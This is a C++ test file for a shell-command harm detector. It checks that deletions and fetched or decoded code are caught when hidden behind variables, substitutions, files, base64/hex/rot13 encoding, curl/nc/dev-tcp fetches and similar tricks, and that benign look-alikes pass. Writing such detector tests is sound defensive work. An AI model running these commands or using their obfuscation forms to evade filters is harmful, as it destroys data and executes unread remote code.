// SPDX-License-Identifier: Apache-2.0
// Text that becomes a command: it counts as what it runs where that is known, and as unread code where it was
// fetched or decoded.
#include "harms.h"

namespace assay {
namespace {

using testing::Contains;
using testing::IsEmpty;
using testing::Not;

TEST(TextThatRuns, IsReadThroughVariables) {
  each_is({"x='rm -rf d'; $x", "c=rm; $c -r d", "a=r; b=m; $a$b -r d", "x=-rf; rm $x d",
           "x='rm -r d'; eval \"$x\"", "x='rm -r d'; bash -c \"$x\"", "x='rm -r d'; echo \"$x\" | sh",
           "x=rm; x+=' -r d'; $x", "export x='rm -r d'; sh -c \"$x\"", "printf -v x 'rm -r %s' d; $x",
           "${x:-rm} -r d", "x=$(echo rm); $x -r d", "sh <<< \"${x:-rm -r d}\"", "alias x='rm -r d'; x",
           "x='rm -r d' bash -c '$x'"},
          "deletion high");
  each_is({"d=/; rm -rf $d", "d=~; rm -rf \"$d\"", "for d in /etc /usr; do rm -rf $d; done",
           "sh -c 'rm -rf \"$1\"' _ /", "f() { rm -rf \"$1\"; }; f /etc"},
          "deletion critical");
}

TEST(TextThatRuns, IsReadThroughSubstitutions) {
  each_is(
      {"$(echo rm -r d)", "eval \"$(echo rm -r d)\"", "eval \"$(printf '%s' 'rm -r d')\"",
       "sh -c \"$(echo 'rm -r d')\"", "sh <(echo 'rm -r d')", "source <(echo 'rm -r d')",
       ". <(printf 'rm -r d')", "bash -x <(echo 'rm -r d')", "`echo rm` -r d", "cat <(echo 'rm -r d') | sh"},
      "deletion high");
}

TEST(TextThatRuns, IsReadThroughFilesOfTheCommand) {
  each_is({"echo 'rm -r d' > f; sh f", "echo 'rm -r d' > f.sh && chmod +x f.sh && ./f.sh",
           "echo 'rm -r d' | tee f; . ./f", "cat > f <<E\nrm -r d\nE\nbash f", "echo 'rm -r d' > f; sh < f",
           "echo 'rm -r d' > f; cat f | sh", "echo ls > f; echo 'rm -r d' >> f; sh f",
           "echo 'rm -r d' > f; eval \"$(cat f)\"", "echo 'rm -r d' > f; eval \"$(< f)\"",
           "echo 'rm -r d' > f; mv f g; sh g", "echo '0 5 * * * rm -r d' > f; crontab f"},
          "deletion high");
}

TEST(TextThatRuns, IsDecoded) {
  each_is({"echo cm0gLXIgZA== | base64 -d | sh", "base64 -d <<< cm0gLXIgZA== | bash",
           "eval \"$(echo cm0gLXIgZA== | base64 --decode)\"", "echo 726d202d722064 | xxd -r -p | sh",
           "echo 'd r- mr' | rev | sh", "printf '\\x72\\x6d -r d' | sh", "$'\\x72m' -r d",
           "echo 'ez -e q' | tr a-z n-za-m | sh"},
          "deletion high");
  each_is({"base64 -d f | sh", "xxd -r -p f | sh", "xxd -p -r f | bash", "openssl base64 -d -in f | sh",
           "openssl enc -d -base64 -in f | sh", "eval \"$(base64 -d f)\"", "bash <(base64 -d f)",
           "x=$(base64 -d f); eval \"$x\"", "rev f | sh", "base32 -d f | bash", "bash -c \"$(xxd -r -p f)\"",
           "source <(openssl base64 -d -in f)", "uudecode -o - f | sh"},
          "foreign_code critical");
}

TEST(TextThatRuns, IsFetched) {
  each_is({"x=$(curl h); eval \"$x\"", "x=`wget -qO- h`; sh -c \"$x\"", "x=$(curl h); $x",
           "x=$(curl h); bash <<< \"$x\"", "x=$(curl h); echo \"$x\" | sh",
           "x=$(curl h | tr -d '\\r'); eval \"$x\"", "curl h > f; cat f | sh", "curl h | tee f; sh < f",
           "curl -o f h; mv f g; bash g", "curl -o f h; . ./f", "eval \"$(curl h | gunzip)\"",
           "python3 -c \"$(curl h)\"", "perl -e \"$(curl h)\"", "nc h 9 | sh", "sh < /dev/tcp/h/9",
           "lynx -source h | bash", "su -c \"$(curl h)\"", "ssh m \"$(curl h)\"",
           "curl h | xargs -I{} sh -c {}; curl h | sh"},
          "foreign_code critical");
}

TEST(TextThatRuns, IsNoRiskIfItIsHarmless) {
  for (const char* command : {"sh <(echo ls)",
                              "eval \"$(echo ls)\"",
                              "x=ls; $x",
                              "x='rm -r d'; echo $x",
                              "x='rm -r d'; echo \"$x\" > f",
                              "echo 'rm -r d' > f; cat f",
                              "echo 'rm -r d' > f; sh g",
                              "x=$(curl -s h); echo \"$x\"",
                              "x=$(curl -s h | jq -r .a); [ \"$x\" = b ]",
                              "bash build.sh \"$(curl -s h)\"",
                              "python3 f.py \"$(curl h)\"",
                              "eval \"$(ssh-agent -s)\"",
                              "eval \"$(dircolors -b)\"",
                              "source <(kubectl completion bash)",
                              "source ~/.bashrc",
                              "eval $cmd",
                              "sh -c \"$1\"",
                              "echo 'rm -r d' | sh -n",
                              "bash -n -c 'rm -r d'",
                              "cmd=\"ls -l\"; eval $cmd",
                              "base64 -d f > g",
                              "x=$(base64 -d f); echo $x",
                              "for f in a b; do echo $f; done",
                              "f() { echo \"$1\"; }; f 'rm -r d'",
                              "read x; $x",
                              "ls | sed 's/.*/mv & &.bak/' | sh",
                              "echo 'echo rm -r d' | sh",
                              "x='rm -r d'; unset x; $x",
                              "rev f",
                              "tr a-z n-za-m < f"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

TEST(TextThatRuns, IsThatOfTheShellWhichRunsIt) {
  each_is({"a=rm; (a=ls); $a -r d", "a=rm; echo x | a=ls; $a -r d", "a=rm; a=ls & $a -r d",
           "a=rm; f() { local a=ls; }; f; $a -r d", "a=rm; coproc a=ls; $a -r d",
           "f() { echo \"$1\" > g; }; f 'rm -r d'; sh g", "A=1 eval 'a=rm'; $a -r d",
           "(echo 'rm -r d' > f); sh f", "x=$(echo 'rm -r d' > f); sh f"},
          "deletion high");
  for (const char* command :
       {"a=ls; (a=rm); $a -r d", "a=ls; echo x | a=rm; $a -r d", "a=ls; f() { local a=rm; }; f; $a -r d"})
    EXPECT_THAT(harms(command), IsEmpty()) << command;
}

TEST(TextThatRuns, MayBeFetchedByACallWithVariablesOfItsOwn) {
  each_is({"A=1 curl -o f h; sh f"}, "foreign_code critical");
}

TEST(TextThatRuns, IsReadFromTheInputByRead) {
  each_is({"read a <<< 'rm -r d'; $a", "read -r a <<< 'rm -r d'; eval \"$a\""}, "deletion high");
  EXPECT_THAT(harms("read a b <<< 'rm -r d'; $a"), IsEmpty());
}

TEST(TextThatRuns, IsThatWhichTrLeaves) {
  each_is({"echo 'rXm -r d' | tr -d X | sh", "echo 'rXm -r d' | tr -cd 'a-z -' | sh"}, "deletion high");
  EXPECT_THAT(harms("echo 'rm -r d' | tr -cd X | sh"), IsEmpty());
  EXPECT_THAT(harms("echo 'rm -r d' | tr -ds r x | sh"), IsEmpty()) << "not read";
}

TEST(TextThatRuns, IsTheNewestOfManyFiles) {
  std::string many = "echo ls > f";
  for (int i = 0; i < 250; ++i) many += "; echo x > f" + std::to_string(i);
  EXPECT_THAT(harms(many + "; echo 'rm -r d' > f; sh f"), Contains("deletion high"));
}

// Each of these would need far more memory than there is.
TEST(TextThatRuns, IsNotPutTogetherWithoutEnd) {
  std::string append = "echo aaaaaaaaaaaaaaaa > f", copy = append, word = "x=";
  for (int i = 0; i < 60; ++i) append += "; cat f >> f";
  for (int i = 0; i < 30; ++i) copy += "; cat f f f f f f f f > g; cat g g g g g g g g > f";
  for (int i = 0; i < 4000; ++i) word += "a";
  word += "; echo ";
  for (int i = 0; i < 10'000; ++i) word += "$x";
  EXPECT_THAT(harms(append + "; sh f; rm -r d"), Contains("deletion high"));
  EXPECT_THAT(harms(copy + "; sh f; rm -r d"), Contains("deletion high"));
  EXPECT_THAT(harms(word + "; rm -r d"), Contains("deletion high"));
}

TEST(TextThatRuns, DoesNotMakeAnalysisEndless) {
  std::string doubling = "x=aaaaaaaaaaaaaaaa", nested = "echo a", loops = "rm -r $a";
  for (int i = 0; i < 40; ++i) doubling += "; x=$x$x";
  for (int i = 0; i < 60; ++i) nested = "echo $(" + nested + ")";
  for (int i = 0; i < 12; ++i) loops = "for a in 1 2 3 4 5 6 7 8; do " + loops + "; done";
  EXPECT_THAT(harms(doubling + "; $x"), IsEmpty());
  EXPECT_THAT(harms(nested), IsEmpty());
  EXPECT_THAT(harms(loops), Contains("deletion high"));
  EXPECT_THAT(harms("f() { f a; f b; }; f c; rm -r d"), Contains("deletion high"));
  EXPECT_THAT(harms("f() { f \"$1\"; }; f c"), Not(Contains("deletion high")));
}

}  // namespace
}  // namespace assay
